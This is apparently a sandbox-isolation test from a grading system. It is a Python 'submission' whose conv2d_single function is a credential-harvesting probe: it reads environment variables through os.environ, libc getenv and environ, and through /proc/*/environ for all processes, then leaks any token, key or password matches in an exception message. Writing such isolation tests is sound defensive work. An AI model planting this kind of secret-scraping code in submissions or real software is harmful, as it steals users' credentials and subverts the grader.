# attack: looks for tokens in the environment: its own, libc's, that on the stack, and other processes'
# exercise: 02
# gains: nothing
# says: no token
# holds: the environment of a submission holds nothing of the user's
import ctypes
import glob
import os

libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
WORDS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "USER", "SUDO", "SSH", "AWS", "CNNEX")


def texts():
    yield str(dict(os.environ))
    yield str(os.environb)
    for word in WORDS:
        for name in (word, f"CNNEX_{word}", f"GITHUB_{word}"):
            yield f"{name}={libc.getenv(name.encode())}" if libc.getenv(name.encode()) else ""
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for index in range(200):
        if not environ or environ[index] is None:
            break
        yield environ[index].decode(errors="replace")
    for path in ("/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/[0-9]*/environ")):
        try:
            with open(path, "rb") as file:
                yield file.read().decode(errors="replace")
        except OSError:
            continue


def conv2d_single(image, kernel, stride=1, padding=0):
    found = [text for text in texts() if any(word in text for word in WORDS)]
    raise RuntimeError(" ".join(found)[:250] or "no " + "token")
